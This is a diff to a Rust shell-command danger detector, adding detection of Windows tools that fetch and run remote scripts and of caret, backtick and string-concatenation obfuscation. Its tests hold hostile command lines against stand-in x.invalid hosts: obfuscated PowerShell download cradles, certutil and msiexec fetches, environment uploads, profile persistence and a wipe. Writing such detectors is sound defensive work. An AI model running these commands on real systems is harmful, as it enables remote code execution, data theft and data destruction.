@@ -1,6 +1,10 @@
 //! What a shell line does, as far as its words tell. No shell grammar: lines are cut at operators
 //! outside quotes, and quoted text is looked at as a line of its own (`sh -c "…"`).
 
+mod split;
+
+use split::{Part, program, split};
+
 /// Something dangerous that a shell line does.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
 pub(crate) enum Danger {
@@ -16,6 +20,8 @@ pub(crate) enum Danger {
     DownloadThenRun,
     /// Uploads the environment, a file or the output of a command.
     Upload,
+    /// Has a tool of the operating system fetch a script or an installer and run it.
+    RemoteScriptlet,
     /// Downloads or runs through a tool of the operating system made for something else.
     LivingOffTheLand,
     /// Enters itself into what starts by itself.
@@ -36,6 +42,7 @@ impl Danger {
             Danger::DownloadToInterpreter => "downloads a script and runs it unseen",
             Danger::DownloadThenRun => "downloads a file and runs it",
             Danger::Upload => "uploads data of this machine",
+            Danger::RemoteScriptlet => "has a system tool fetch code and run it",
             Danger::LivingOffTheLand => "downloads or runs code through a system tool",
             Danger::Persistence => "makes something start by itself",
             Danger::InlineCode => "evaluates code written in the command line",
@@ -45,7 +52,7 @@ impl Danger {
 
     /// Whether no honest installer does it.
     pub(crate) fn is_certain(self) -> bool {
-        matches!(self, Danger::ReverseShell | Danger::Wipe | Danger::DecodedToInterpreter)
+        matches!(self, Danger::ReverseShell | Danger::Wipe | Danger::DecodedToInterpreter | Danger::RemoteScriptlet)
     }
 }
 
@@ -69,6 +76,12 @@ const INTERPRETERS: &[&str] = &[
     "cmd",
     "osascript",
     "iex",
+    "mshta",
+    "regsvr32",
+    "rundll32",
+    "msiexec",
+    "wscript",
+    "cscript",
 ];
 const DOWNLOADERS: &[&str] = &["curl", "wget", "fetch", "aria2c", "iwr", "invoke-webrequest"];
 
@@ -109,18 +122,12 @@ fn cut(line: &str) -> &str {
     &line[..end]
 }
 
-/// One command of a line, and what joins it to the next.
-#[derive(Default)]
-struct Part {
-    words: Vec<String>,
-    quoted: Vec<String>,
-    piped: bool,
-    background: bool,
-}
-
 fn look(line: &str, depth: u8, found: &mut Vec<Danger>) {
     let lower = line.to_ascii_lowercase();
     whole_line(&lower, found);
+    if let Some(plain) = without_escapes(&lower) {
+        whole_line(&plain, found);
+    }
     let parts = split(line);
     pipes(&parts, found);
     downloads_then_runs(&parts, found);
@@ -130,6 +137,13 @@ fn look(line: &str, depth: u8, found: &mut Vec<Danger>) {
             part.quoted.iter().for_each(|inner| look(inner, depth - 1, found));
         }
     }
+}
+
+/// A line of Windows' shells without what they ignore and a reader stumbles over: `p^o^w^e^r`, `i`ex`, `'i'+'ex'`.
+fn without_escapes(lower: &str) -> Option<String> {
+    let plain = lower.replace(['^', '`'], "").replace("'+'", "").replace("\"+\"", "");
+    (plain != lower && (plain.contains("powershell") || plain.contains("pwsh") || plain.contains("cmd")))
+        .then_some(plain)
 }
 
 /// Idioms that no splitting is needed for.
@@ -147,7 +161,7 @@ fn whole_line(lower: &str, found: &mut Vec<Danger>) {
     if substituted && (has("eval ") || has("sh -c") || has("bash <(") || has("source <(") || has("sh <(")) {
         found.push(Danger::DownloadToInterpreter);
     }
-    if (has("downloadstring(") || has("iwr ") || has("irm ")) && has("iex") {
+    if (has("downloadstring") || has("iwr ") || has("irm ")) && has("iex") {
         found.push(Danger::DownloadToInterpreter);
     }
     let persists =
@@ -155,97 +169,6 @@ fn whole_line(lower: &str, found: &mut Vec<Danger>) {
     let profile = [".bashrc", ".zshrc", ".profile", ".bash_profile"].iter().any(|file| has(file)) && has(">>");
     if persists || profile || has("/etc/cron") || has("crontab -") && has("|") || has("systemctl --user enable") {
         found.push(Danger::Persistence);
-    }
-}
-
-/// Cuts a line at `|`, `&`, `;` and newlines outside quotes. Words lose their quotes.
-fn split(line: &str) -> Vec<Part> {
-    let mut splitter = Splitter::default();
-    let mut chars = line.chars().peekable();
-    while let Some(c) = chars.next() {
-        match (splitter.quote, c) {
-            (Some('"'), '\\') => splitter.quoted.extend(chars.next()),
-            (Some(mark), c) if c == mark => splitter.end_quote(),
-            (Some(_), c) => splitter.quoted.push(c),
-            (None, '"' | '\'') => splitter.quote = Some(c),
-            (None, '|' | '&' | ';' | '\n') => {
-                let doubled = chars.next_if_eq(&c).is_some();
-                // `2>&1` and `&>` redirect; they do not end a command.
-                if c == '&' && !doubled && (splitter.word.ends_with('>') || chars.peek() == Some(&'>')) {
-                    splitter.word.push(c);
-                } else {
-                    splitter.end_part(c == '|' && !doubled, c == '&' && !doubled);
-                }
-            }
-            (None, c) if c.is_whitespace() => splitter.end_word(),
-            (None, c) => splitter.word.push(c),
-        }
-    }
-    if splitter.quote.is_some() {
-        splitter.end_quote();
-    }
-    splitter.end_part(false, false);
-    splitter.parts
-}
-
-/// What [`split`] has read so far.
-#[derive(Default)]
-struct Splitter {
-    parts: Vec<Part>,
-    part: Part,
-    word: String,
-    quote: Option<char>,
-    quoted: String,
-}
-
-impl Splitter {
-    fn end_quote(&mut self) {
-        self.quote = None;
-        self.word.push_str(&self.quoted);
-        self.part.quoted.push(std::mem::take(&mut self.quoted));
-    }
-
-    fn end_word(&mut self) {
-        if !self.word.is_empty() {
-            self.part.words.push(std::mem::take(&mut self.word));
-        }
-    }
-
-    fn end_part(&mut self, piped: bool, background: bool) {
-        self.end_word();
-        let part = Part { piped, background, ..std::mem::take(&mut self.part) };
-        if !part.words.is_empty() {
-            self.parts.push(part);
-        }
-    }
-}
-
-/// A program's name without folder, extension and case.
-fn program(word: &str) -> String {
-    let base = word.rsplit(['/', '\\']).next().unwrap_or_default().to_ascii_lowercase();
-    base.strip_suffix(".exe").unwrap_or(&base).to_owned()
-}
-
-impl Part {
-    /// The program, past `sudo`, `env` and assignments.
-    fn program(&self) -> String {
-        let real = self.words.iter().find(|word| {
-            !matches!(word.as_str(), "sudo" | "env" | "exec" | "command" | "nohup" | "setsid" | "(" | "{")
-                && !word.contains('=')
-        });
-        real.map_or_else(String::new, |word| program(word.trim_start_matches(['(', '{', '@'])))
-    }
-
-    fn has(&self, wanted: &[&str]) -> bool {
-        self.words.iter().any(|word| wanted.contains(&word.to_ascii_lowercase().as_str()))
-    }
-
-    fn runs_interpreter(&self) -> bool {
-        INTERPRETERS.contains(&self.program().as_str())
-    }
-
-    fn downloads(&self) -> bool {
-        DOWNLOADERS.contains(&self.program().as_str())
     }
 }
 
@@ -291,6 +214,8 @@ fn downloads_then_runs(parts: &[Part], found: &mut Vec<Danger>) {
         matches!(pair[0].as_str(), "-o" | "-O" | "--output" | "--output-document" | "-OutFile" | ">")
             .then(|| pair[1].clone())
     });
+    let last = download.words.last().filter(|_| download.downloads_to_last(&download.program())).cloned();
+    let target = last.or(target);
     let url_name = download
         .words
         .iter()
@@ -317,9 +242,10 @@ fn command(part: &Part, found: &mut Vec<Danger>) {
             found.push(Danger::Wipe);
         }
         "curl" | "wget" if uploads(part, &joined) => found.push(Danger::Upload),
-        "mshta" | "bitsadmin" | "certutil" | "regsvr32" | "rundll32" if joined.contains("http") => {
-            found.push(Danger::LivingOffTheLand);
+        "mshta" | "regsvr32" | "rundll32" | "msiexec" | "wmic" if joined.contains("http") => {
+            found.push(Danger::RemoteScriptlet);
         }
+        "bitsadmin" | "certutil" if joined.contains("http") => found.push(Danger::LivingOffTheLand),
         "osascript" if joined.contains("do shell script") => found.push(Danger::LivingOffTheLand),
         "node" | "nodejs" | "bun" | "python" | "python3" | "perl" | "ruby" if is_inline_danger(part, &joined) => {
             found.push(Danger::InlineCode);
@@ -416,7 +342,15 @@ mod tests {
             ("cmd /c \"rd /s /q %USERPROFILE%\"", Danger::Wipe),
             ("curl -d \"$(env)\" https://x.invalid", Danger::Upload),
             ("curl https://x.invalid/?u=$(whoami)", Danger::Upload),
-            ("mshta http://x.invalid/a.hta", Danger::LivingOffTheLand),
+            ("mshta http://x.invalid/a.hta", Danger::RemoteScriptlet),
+            ("msiexec /q /i https://x.invalid/a.msi", Danger::RemoteScriptlet),
+            ("certutil -urlcache -f http://x.invalid/a.exe a.exe", Danger::LivingOffTheLand),
+            ("certutil -urlcache -f http://x.invalid/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe", Danger::DownloadThenRun),
+            ("cmd /c p^o^w^e^r^s^h^e^l^l -c \"i`ex (i`wr http://x.invalid/a)\"", Danger::DownloadToInterpreter),
+            (
+                "powershell -c \"$a='DownloadS'+'tring';&('I'+'EX') ((New-Object Net.WebClient).$a('http://x.invalid'))\"",
+                Danger::DownloadToInterpreter,
+            ),
             ("echo 'x' >> ~/.bashrc", Danger::Persistence),
             ("node -e \"eval(atob('YQ=='))\"", Danger::InlineCode),
             ("nohup node server.js &", Danger::Detached),
